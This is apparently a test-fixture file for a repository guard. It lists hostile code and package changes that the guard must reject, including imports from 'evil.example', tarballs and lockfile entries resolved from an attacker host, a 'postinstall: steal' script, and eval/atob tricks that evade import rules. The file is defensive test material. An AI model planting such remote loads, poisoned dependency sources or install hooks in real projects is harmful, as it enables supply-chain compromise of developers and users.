/** Patches that load what they may not, and those that bring packages along. */
import { add, json, lock, locked, manifest } from '../yard-files.ts';
import type { HostileCase } from './case.ts';

/** A file of the core with that code. */
const core = (code: string) => ({ 'src/core/x.ts': `${code}\n` });
const needing = (section: 'dependencies' | 'devDependencies', more: Readonly<Record<string, string>>) =>
  json({ ...manifest, [section]: { ...manifest[section], ...more } });
const zod = { 'package.json': needing('dependencies', { zod: '^4.0.0' }) };
const lockWith = (more: Readonly<Record<string, object>>) => json({ ...lock, packages: { ...lock.packages, ...more } });
const asked = { issueNumber: 12 };

const imports: readonly HostileCase[] = [
  ['a page from the core', "import { page } from '../ui/page.ts';"],
  ['a page as a type', "import type { Page } from '../ui/page.ts';"],
  ['a page that is exported again', "export * from '../ui/page.ts';"],
  ['a page at run time', "export const page = () => import('../ui/page.ts');"],
  ['a page by require', "export const page = require('../ui/page.ts');"],
  ['a page by an old import', "import page = require('../ui/page.ts');"],
  ['a page for its effects', "import '../ui/page.ts';"],
  ['a page within a type', "export type Page = import('../ui/page.ts').Page;"],
  ['a page in a comment that types read', "/** @type {import('../ui/page.ts').Page} */\nexport const page = 1;"],
  ['a page by a reference', '/// <reference path="../ui/page.ts" />'],
  ['a page by its address', "export const worker = new Worker(new URL('../ui/page.ts', import.meta.url));"],
  ['a page from the root', "import '/src/ui/page.ts';"],
  ['a page by a detour', "import '../core/../../src/./ui/page.ts';"],
  ['a page in other capitals', "import '../UI/page.ts';"],
  ['a page in signs of an address', "import '../%75i/page.ts';"],
  ['a page in escapes', "import '../\\u0075i/page.ts';"],
  ['a page with a question', "import '../ui/page.ts?raw';"],
  ['a page without its ending', "import '../ui/page';"],
  ['a folder of pages', "import '../ui';"],
  ['a page put together at run time', "export const page = (name: string) => import('../' + name);"],
  ['pages by a pattern', "export const pages = import.meta.glob('../ui/*.ts');"],
  ['require under another name', 'const load = require;\nexport const page = load;'],
  [
    'a require that is made',
    "import { createRequire } from 'node:module';\nexport const load = createRequire(import.meta.url);",
  ],
  ['a part of Node by its name', "export const fs = process.getBuiltinModule('fs');"],
  ['code made of text', "export const page = eval('1');"],
  ['code made of text by a constructor', "export const page = new Function('return 1')();"],
  ['a constructor by a detour', "export const page = [].map.constructor('return 1')();"],
  ['eval by its name in a text', "export const page = (globalThis as never)['eval'];"],
  ['a module from the network', "import 'https://evil.example/x.js';"],
  ['a module in a text', "import 'data:text/javascript,steal()';"],
  ['a file outside', "import '../../../../etc/x.js';"],
  ['a class that is made of text', 'export class A extends Function {}'],
  [
    'a part of Node by a name that is put together',
    "export const fs = (process as never)['get' + 'BuiltinModule'];\nexport const b = process['get' + 'BuiltinModule']('fs');",
  ],
  ['a part of Node by an old way', 'export const load = process.mainModule?.require;'],
  ['a package of another program', "import 'npm:left-pad@1';"],
  ['what makes elements', '/* @jsxImportSource ../ui */\nexport const a = 1;'],
  ['what tests run in', '// @vitest-environment ../ui/page.ts\nexport const a = 1;'],
  ['a file of the machine through the server', "import '/@fs/etc/x.js';"],
  ['a page by an import that is put off', "import defer * as page from '../ui/page.ts';"],
  ['a page within a namespace', "export * as page from '../ui/page.ts';"],
  ['a script of a worker', "importScripts('../ui/page.ts');"],
  ['a backslash', "import '..\\\\ui\\\\page.ts';"],
].map(([name = '', code = '']) => ({ name: `imports ${name}`, rule: 'import', files: core(code) }));

export const codeCases: readonly HostileCase[] = [
  ...imports,
  {
    name: 'imports a page from a component',
    rule: 'import',
    files: { 'src/core/x.astro': "---\nimport '../ui/page.ts';\n---\n<p>x</p>\n" },
  },
  {
    name: 'imports a page from a script of a component',
    rule: 'import',
    files: { 'src/core/x.vue': "<script>\nimport '../ui/page.ts';\n</script>\n" },
  },
  {
    name: 'imports a page from a document',
    rule: 'import',
    files: { 'src/core/x.mdx': "# X\n\nimport Page from '../ui/page.ts';\n" },
  },
  {
    name: 'imports a page in a file that is there',
    rule: 'import',
    files: { 'src/core/add.ts': `import '../ui/page.ts';\n${add}` },
  },
  { name: 'imports a package that no manifest names', rule: 'dependency', files: core("import pad from 'left-pad';") },
  {
    name: 'a package that is not listed',
    rule: 'dependency',
    files: { 'package.json': needing('dependencies', { 'left-pad': '^1.0.0' }) },
    ...asked,
  },
  {
    name: 'a package for development at run time',
    rule: 'dependency',
    files: { 'package.json': needing('dependencies', { prettier: '^3.0.0' }) },
    ...asked,
  },
  { name: 'a package that no issue asks for', rule: 'dependency', files: zod },
  {
    name: 'more packages than are allowed',
    rule: 'dependency',
    files: {
      'package.json': json({
        ...manifest,
        dependencies: { ...manifest.dependencies, zod: '4.0.0' },
        devDependencies: { ...manifest.devDependencies, prettier: '3.0.0' },
      }),
    },
    ...asked,
  },
  ...[
    'https://evil.example/zod.tgz',
    'git+ssh://git@evil.example/zod.git',
    'file:../zod',
    'link:../zod',
    'npm:left-pad@1.0.0',
    'evil/zod',
    'latest',
    '*',
    '>=1.0.0',
  ].map(
    (version): HostileCase => ({
      name: `a version that is ${version}`,
      rule: 'dependency',
      files: { 'package.json': needing('dependencies', { zod: version }) },
      ...asked,
    }),
  ),
  {
    name: 'a package that goes back',
    rule: 'dependency',
    files: { 'package.json': needing('dependencies', { yaml: '1.0.0' }) },
    policy: { dependencies: { runtime: ['yaml'], development: [], needIssue: false } },
  },
  ...Object.entries({
    scripts: { postinstall: 'steal' },
    overrides: { yaml: '1.0.0' },
    bin: './x.js',
    workspaces: ['docs'],
    imports: { '#x': './x.js' },
    type: 'module',
    bundleDependencies: ['yaml'],
  }).map(
    ([key, value]): HostileCase => ({
      name: `"${key}" in package.json`,
      rule: 'dependency',
      files: { 'package.json': json({ ...manifest, [key]: value }) },
    }),
  ),
  {
    name: 'a key that stands twice in package.json',
    rule: 'dependency',
    files: {
      'package.json': json(manifest).replace('"scripts"', '"scripts": {},\n  "scripts"').replace('vitest run', 'steal'),
    },
  },
  { name: 'a package.json that is none', rule: 'dependency', files: { 'package.json': '{' } },
  {
    name: 'a package.json in a folder',
    rule: 'dependency',
    files: { 'src/core/package.json': '{ "type": "commonjs" }\n' },
  },
  { name: 'no package.json any more', rule: 'dependency', files: { 'package.json': null } },
  {
    name: 'a lockfile without a reason',
    rule: 'lockfile',
    files: { 'package-lock.json': lockWith({ 'node_modules/yaml': locked('2.0.1') }) },
  },
  {
    name: 'a lockfile with a reason and another package besides',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({ 'node_modules/zod': locked('4.0.0', 'C'), 'node_modules/yaml': locked('2.0.1') }),
    },
    ...asked,
  },
  {
    name: 'another digest for the same version',
    rule: 'lockfile',
    files: { ...zod, 'package-lock.json': lockWith({ 'node_modules/yaml': locked('2.0.0', 'D') }) },
    ...asked,
  },
  {
    name: 'another digest for the same version in a folder below',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({
        'node_modules/zod': locked('4.0.0', 'C'),
        'node_modules/zod/node_modules/yaml': locked('2.0.0', 'D'),
      }),
    },
    ...asked,
  },
  {
    name: 'a package from a stranger',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({
        'node_modules/zod': { ...locked('4.0.0', 'C'), resolved: 'https://evil.example/zod-4.0.0.tgz' },
      }),
    },
    ...asked,
  },
  {
    name: 'a package from a file',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({ 'node_modules/zod': { ...locked('4.0.0', 'C'), resolved: 'file:docs/zod.tgz' } }),
    },
    ...asked,
  },
  {
    name: 'a package without a digest',
    rule: 'lockfile',
    files: { ...zod, 'package-lock.json': lockWith({ 'node_modules/zod': { version: '4.0.0' } }) },
    ...asked,
  },
  {
    name: 'a package that runs a script',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({ 'node_modules/zod': { ...locked('4.0.0', 'C'), hasInstallScript: true } }),
    },
    ...asked,
  },
  {
    name: 'a package under the name of another one',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({ 'node_modules/zod': { ...locked('4.0.0', 'C'), name: 'left-pad' } }),
    },
    ...asked,
  },
  {
    name: 'a package that is a link',
    rule: 'lockfile',
    files: { ...zod, 'package-lock.json': lockWith({ 'node_modules/zod': { link: true, resolved: 'docs' } }) },
    ...asked,
  },
  { name: 'no lockfile any more', rule: 'lockfile', files: { 'package-lock.json': null } },
  {
    name: 'a lockfile of another program',
    rule: 'lockfile',
    files: { 'docs/yarn.lock': 'zod@1:\n  resolved "https://evil.example/zod.tgz"\n' },
  },
  {
    name: 'a package in the lockfile that nothing needs',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({
        'node_modules/zod': locked('4.0.0', 'C'),
        'node_modules/left-pad': locked('1.0.0', 'E'),
      }),
    },
    ...asked,
  },
  {
    name: 'a lockfile in an old form',
    rule: 'lockfile',
    files: { ...zod, 'package-lock.json': json({ ...lock, lockfileVersion: 1 }) },
    ...asked,
  },
  {
    name: 'a package that needs more than it did',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({
        'node_modules/zod': locked('4.0.0', 'C'),
        'node_modules/yaml': { ...locked('2.0.0'), dependencies: { 'left-pad': '1.0.0' } },
      }),
    },
    ...asked,
  },
  {
    name: 'a registry without encryption',
    rule: 'lockfile',
    files: {
      ...zod,
      'package-lock.json': lockWith({
        'node_modules/zod': { ...locked('4.0.0', 'C'), resolved: 'http://registry.npmjs.org/zod/-/zod-4.0.0.tgz' },
      }),
    },
    ...asked,
  },
  {
    name: 'imports a page in the braces of a component',
    rule: 'import',
    files: { 'src/core/x.astro': "---\n---\n<p>{(await import('../ui/page.ts')).page}</p>\n" },
  },
  {
    name: 'runs code in the braces of a document',
    rule: 'import',
    files: { 'docs/x.mdx': '# X\n\n{eval(atob("x"))}\n' },
  },
];
